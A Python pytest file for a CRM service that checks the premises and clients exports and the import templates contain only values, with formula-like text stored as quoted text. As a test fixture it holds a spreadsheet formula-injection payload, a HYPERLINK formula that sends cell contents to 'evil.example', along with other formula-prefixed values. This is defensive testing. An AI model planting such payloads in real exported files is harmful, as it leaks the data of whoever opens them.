"""Files the service writes hold values, never formulas (API.md: exports, IMPORT-08): a street,
tag, external id or e-mail that starts like a formula is written as text, so opening an export
cannot run it (an `=HYPERLINK("https://…?"&B2, …)` would send the unmasked cells of whoever
exports it to the link, STAFF-02). Read back with openpyxl: no cell is a formula, and a text
starting with =, +, - or @ is a quote-prefixed text cell holding exactly what was typed."""

from __future__ import annotations

import pytest

from tests.crm.estate import (
    link,
    make_client,
    make_object,
    make_premise,
    partner_with_staff,
)
from tests.crm.masking import file_cells

LURE = '=HYPERLINK("https://evil.example/?"&T2&U2,"Ленина")'
TAGS = ["=1+1", "+79160000000", "-2+3", "@SUM(A1:A9)"]


def _check_cells(content: bytes, typed: set[str]) -> set[str]:
    """Every cell is a value; those starting like a formula are quote-prefixed text. Returns the
    texts found."""
    found = set()
    for cell in file_cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found.add(cell.value)
            if cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return {t for t in typed if any(t in value for value in found)}


async def test_staff_02_exports_write_values_never_formulas(http):
    """Rule: STAFF-02, IMPORT-08 — premises and clients exports."""
    _, staff = await partner_with_staff(http, name="УК Формулы")
    obj = await make_object(http, staff)
    premise = await make_premise(http, staff, obj, "=2+2", street=LURE, house="+5", tags=TAGS, external_id="@P-1",
                                 entrance="-1")
    client = await make_client(http, staff, "Формулова", "Анна", "+79167790001", email="=cmd@evil.example",
                               loyalty_card="+100", external_ids=[{"value": "=EXT()"}])
    await link(http, staff, premise, client)
    premises = await http.get("/crm/v1/export/premises", headers=staff)
    assert premises.status_code == 200, premises.text
    typed = {LURE, *TAGS, "@P-1", "=2+2", "+5", "-1", "=EXT()"}
    assert _check_cells(premises.content, typed) == typed
    clients = await http.get("/crm/v1/export/clients", headers=staff)
    assert clients.status_code == 200, clients.text
    typed = {"=cmd@evil.example", "+100", "=EXT()", "+79167790001"}
    assert _check_cells(clients.content, typed) == typed


@pytest.mark.parametrize("kind", ["premises", "clients"])
async def test_import_08_the_template_holds_no_formula(http, kind):
    """Rule: IMPORT-08 — the import template's cells are values too."""
    _, staff = await partner_with_staff(http, name="УК Шаблон")
    response = await http.get(f"/crm/v1/import/{kind}/template", headers=staff)
    assert response.status_code == 200
    assert "+7 916 123-45-67" in _check_cells(response.content, {"+7 916 123-45-67"})
